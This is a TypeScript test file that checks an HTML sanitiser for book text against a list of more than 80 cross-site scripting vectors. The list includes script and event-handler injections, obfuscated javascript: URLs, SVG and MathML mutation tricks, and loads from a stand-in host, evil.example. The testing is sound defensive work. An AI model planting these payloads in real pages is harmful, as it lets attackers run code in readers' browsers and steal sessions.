/** Ways of the books to make a text run, call home or lie over the page. Whatever is left of them, nothing does. */
import { parseDocument } from 'htmlparser2';
import { expect, it } from 'vitest';
import { cleanBody } from './body.ts';

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x00>alert(1)</script>',
  '<script/src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=1 srcset="//evil.example/a 1x">',
  '<img src="/pictures/../api/session">',
  `<img src="/pictures/${'a'.repeat(64)}/../../api" onload=x()>`,
  `<img src="//evil.example/pictures/${'a'.repeat(64)}">`,
  `<img src="https://evil.example/pictures/${'a'.repeat(64)}">`,
  `<img src="/pictures/${'A'.repeat(64)}?x">`,
  `<img src=" /pictures/${'a'.repeat(63)}">`,
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="blob:https://x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<math href="javascript:alert(1)">甲</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code=x></applet>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href="JaVaScRiPt:alert(1)">点</a>',
  '<a href=" javascript:alert(1)">点</a>',
  '<a href="java\tscript:alert(1)">点</a>',
  '<a href="java\nscript:alert(1)">点</a>',
  '<a href="java&#x09;script:alert(1)">点</a>',
  '<a href="&#106;avascript:alert(1)">点</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">点</a>',
  '<a href="\u0001javascript:alert(1)">点</a>',
  '<a href="vbscript:msgbox(1)">点</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点</a>',
  '<a href="file:///C:/windows/system.ini">点</a>',
  '<a href="//evil.example">点</a>',
  '<a href="/\\evil.example">点</a>',
  '<a href="ms-word:ofe|u|https://evil.example/x">点</a>',
  '<a href="https://a" onmouseover="alert(1)">点</a>',
  '<a href="https://a" style="position:fixed;inset:0">点</a>',
  '<a href="https://a" target="_blank" rel="opener">点</a>',
  '<a href="https://a" ping="//evil.example">点</a>',
  '<form action="//evil.example"><input name=p><button formaction="javascript:alert(1)">交</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea></textarea><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>甲</details>',
  '<marquee onstart=alert(1)>甲</marquee>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onloadstart=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">甲</p>',
  '<p style="behavior:url(x.htc)">甲</p>',
  '<p style="width:expression(alert(1))">甲</p>',
  '<p id="constructor" name="body" class="x">甲</p>',
  '<table background="javascript:alert(1)"><tr><td background="//evil.example/x">甲</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">甲</p></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<dialog open><form method=dialog>甲</form></dialog>',
  '<portal src="//evil.example"></portal>',
  '<x onclick=alert(1) tabindex=1>甲</x>',
  '<p oncontentvisibilityautostatechange=alert(1)>甲</p>',
  '<p data-align="center" data-x="1">甲</p>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  `${'<b>'.repeat(2_000)}甲`,
] as const;

const TAGS = new Set(
  'h2 h3 h4 p br hr blockquote ul ol li strong b em i u s sub sup a table caption thead tbody tfoot tr th td figure figcaption img'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set('href title src alt width height start type colspan rowspan scope data-align'.split(' '));

type Node = ReturnType<typeof parseDocument>['children'][number];

/** Everything in a tree that a reader's browser would do more with than show it. */
function dangers(nodes: readonly Node[]): string[] {
  return nodes.flatMap((node) => {
    if (node.type === 'text') return [];
    if (!('attribs' in node)) return [node.type];
    const attributes = Object.entries(node.attribs).flatMap(([name, value]) => {
      if (!ATTRIBUTES.has(name)) return [`${node.name} ${name}`];
      if (name === 'href' && !/^(?:https?:\/\/[^\s\\]|mailto:|tel:)/i.test(value)) return [`href ${value}`];
      if (name === 'src' && !/^\/pictures\/[0-9a-f]{64}$/.test(value)) return [`src ${value}`];
      return [];
    });
    return [...(TAGS.has(node.name) ? [] : [node.name]), ...attributes, ...dangers(node.children)];
  });
}

it('PUB-71 knows more than 60 of them', () => expect(new Set(VECTORS).size).toBeGreaterThanOrEqual(60));

it.each(VECTORS.map((vector, n) => [n + 1, vector.slice(0, 60), vector] as const))('PUB-71 %i %s', (_, __, vector) => {
  for (const html of [vector, `<p>前${vector}后</p>`, `<table><tr><td>${vector}</td></tr></table>`]) {
    const clean = cleanBody(html);
    expect(dangers(parseDocument(clean).children)).toEqual([]);
    expect(cleanBody(clean)).toBe(clean);
  }
});
